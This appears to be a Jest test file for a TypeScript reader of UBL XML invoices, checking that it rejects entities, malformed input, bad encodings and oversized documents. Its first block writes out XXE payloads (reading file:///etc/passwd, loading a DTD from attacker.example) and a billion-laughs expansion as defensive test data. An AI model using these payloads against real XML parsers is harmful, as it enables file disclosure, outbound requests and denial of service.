import { readFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, test } from '@jest/globals';
import { readFile } from '../index.ts';
import type { ReadError } from '../index.ts';

const invoice = readFileSync(path.join(import.meta.dirname, '../fixtures/invoice.ubl.xml'), 'utf8');
const doctyped = (doctype: string, reference = '&x;'): string => invoice.replace('?>\n', `?>\n${doctype}\n`).replace('>VO-2026-118<', `>${reference}<`);

async function errorsOf(content: string | Uint8Array): Promise<readonly ReadError[]> {
  const file = await readFile(typeof content === 'string' ? new TextEncoder().encode(content) : content, 'facture.xml');
  if ('error' in file) throw new Error(file.error.message);
  expect(file.claims).toEqual([]);
  return file.errors;
}

describe('no entity is ever resolved', () => {
  test.each([
    ['<!DOCTYPE Invoice [<!ENTITY x SYSTEM "file:///etc/passwd">]>', 'external_entity', 'Le fichier déclare une entité externe\u00a0: il n’est pas lu.'],
    ['<!DOCTYPE Invoice [<!ENTITY % p PUBLIC "-//x" "http://attacker.example/x.dtd"> %p;]>', 'external_entity', 'Le fichier déclare une entité externe\u00a0: il n’est pas lu.'],
    ['<!DOCTYPE Invoice SYSTEM "http://attacker.example/x.dtd">', 'external_entity', 'Le fichier déclare une entité externe\u00a0: il n’est pas lu.'],
    ['<!DOCTYPE Invoice [<!ENTITY x "y">]>', 'entity', 'Le fichier déclare une entité\u00a0: il n’est pas lu.'],
    ['<!DOCTYPE Invoice>', 'doctype', 'Le fichier contient une déclaration DOCTYPE\u00a0: il n’est pas lu.'],
  ])('%s', async (doctype, code, message) => {
    expect(await errorsOf(doctyped(doctype))).toEqual([{ line: 2, field: null, code, message, facts: {} }]);
  });

  test('entities that multiply do not', async () => {
    const levels = Array.from({ length: 10 }, (_, level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(10)}">`).join('');
    expect(await errorsOf(doctyped(`<!DOCTYPE Invoice [<!ENTITY l0 "lol">${levels}]>`, '&l10;'))).toMatchObject([{ code: 'entity' }]);
  });

  test.each(['&x;', '&eacute;', '&constructor;', '&toString;', '&#0;', '&#xD800;', '&#x110000;'])('the reference %s is refused', async (reference) => {
    expect(await errorsOf(invoice.replace('>VO-2026-118<', `>${reference}<`))).toMatchObject([{ line: 4, code: 'xml_malformed' }]);
  });

  test('a document of another kind that declares one is unknown, and told why', async () => {
    expect(await readFile(new TextEncoder().encode('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<a>&x;</a>'), 'a.xml')).toEqual({
      file: 'a.xml', error: { code: 'unknown_format', message: 'Ligne 1\u00a0: le fichier déclare une entité externe\u00a0: il n’est pas lu.' },
    });
  });
});

describe('a document that is not whole or not well formed names its line', () => {
  const lines = invoice.split('\n');

  test('truncated after a line', async () => {
    expect(await errorsOf(lines.slice(0, 20).join('\n'))).toMatchObject([{ line: 20, code: 'xml_truncated', message: 'Le fichier XML s’arrête avant sa fin.' }]);
  });

  test('truncated inside a tag', async () => {
    expect(await errorsOf(`${lines.slice(0, 20).join('\n')}\n<cac:Part`)).toMatchObject([{ line: 21, code: 'xml_truncated' }]);
  });

  test.each([
    ['<cbc:Note>#AAI#', '<cbc:Note><b>#AAI#'], ['<cbc:Note>#AAI#', '<cbc:Note a=b>#AAI#'], ['<cbc:Note>#AAI#', '<cbc:Note>&#AAI#'], ['<cbc:Note>#AAI#', '<cbc:Note hasOwnProperty="a" b="c">#AAI#'],
  ])('%s as %s', async (piece, by) => {
    expect(await errorsOf(invoice.replace(piece, by))).toMatchObject([{ line: 8, code: 'xml_malformed', message: 'Le fichier XML est mal formé à cet endroit.' }]);
  });

  test('two documents in one', async () => {
    expect(await errorsOf(`${invoice}<Invoice/>`)).toMatchObject([{ code: 'xml_malformed' }]);
  });

  test('a control character', async () => {
    expect(await errorsOf(invoice.replace('>VO-2026-118<', '>VO\u0085<'))).toMatchObject([{ line: 4, code: 'forbidden_character', message: 'La valeur contient un caractère illisible (U+0085).' }]);
    expect(await errorsOf(invoice.replace('>VO-2026-118<', '>VO\u0000<'))).toMatchObject([{ line: 4, code: 'forbidden_character' }]);
  });

  test('bytes that are not of its encoding, and an encoding that nobody writes', async () => {
    expect(await errorsOf(Buffer.from(invoice, 'latin1'))).toMatchObject([{ line: 9, code: 'encoding_broken', message: 'Le fichier se dit en UTF-8 mais contient un caractère qui n’en est pas.' }]);
    const contradicted = [{ line: 1, code: 'encoding_contradicted', message: 'Le fichier se déclare en UTF-16, mais ses octets ne le sont pas.' }];
    expect(await errorsOf(invoice.replace('UTF-8', 'UTF-16'))).toMatchObject(contradicted);
    expect(await errorsOf(`\ufeff${invoice.replace('UTF-8', 'utf-16')}`)).toMatchObject(contradicted);
    expect(await errorsOf(invoice.replace('UTF-8', 'EBCDIC-FR'))).toMatchObject([{ line: 1, code: 'encoding_unsupported' }]);
  });
});

describe('no document is larger than the limits', () => {
  const within = (content: string): string => invoice.replace('<cac:OrderReference>', `${content}<cac:OrderReference>`);

  test('depth', async () => {
    expect(await errorsOf(within('<a>'.repeat(1_000)))).toMatchObject([{ line: 12, code: 'xml_too_deep' }]);
  });

  test('elements, but not those of its lines', async () => {
    expect(await errorsOf(within('<a/>'.repeat(60_000)))).toMatchObject([{ line: 12, code: 'xml_too_many_elements' }]);
    const many = invoice.replace('</Invoice>', `${'<cac:InvoiceLine><cbc:ID>1</cbc:ID></cac:InvoiceLine>\n'.repeat(60_000)}</Invoice>`);
    expect(await readFile(new TextEncoder().encode(many), 'f.xml')).toMatchObject({ errors: [], claims: [{ due: '900.40' }] });
  });

  test('attributes', async () => {
    const attributes = Array.from({ length: 1_000 }, (_, at) => `a${at}="b"`).join(' ');
    expect(await errorsOf(within(`<a ${attributes}/>`))).toMatchObject([{ line: 12, code: 'xml_too_many_elements' }]);
  });

  test('namespaces declared at every depth, each used a thousand times', async () => {
    const open = Array.from({ length: 90 }, (_, at) => `<a xmlns:n${at}="urn:${at}">`).join('');
    const deep = within(`${open}${'<n0:b/>'.repeat(200_000)}${'</a>'.repeat(90)}`);
    expect(await readFile(new TextEncoder().encode(deep), 'f.xml')).toMatchObject({ errors: [], claims: [{ due: '900.40' }] });
  });

  test('one text', async () => {
    expect(await errorsOf(within(`<cbc:Note>${'x'.repeat(1_200_000)}</cbc:Note>`))).toMatchObject([{ line: 12, code: 'value_too_long' }]);
    expect(await errorsOf(within(`<!--${'x'.repeat(200_000)}-->`))).toMatchObject([{ line: 12, code: 'xml_malformed' }]);
  });

  test('an attached file may be long', async () => {
    const large = Buffer.alloc(3_000_000, 7);
    const file = await readFile(new TextEncoder().encode(invoice.replace(/UmXDp3Ug[^<]*/u, large.toString('base64'))), 'f.xml');
    expect('claims' in file && large.equals(file.claims[0]!.extras.documents[0]!.content)).toBe(true);
  });
});
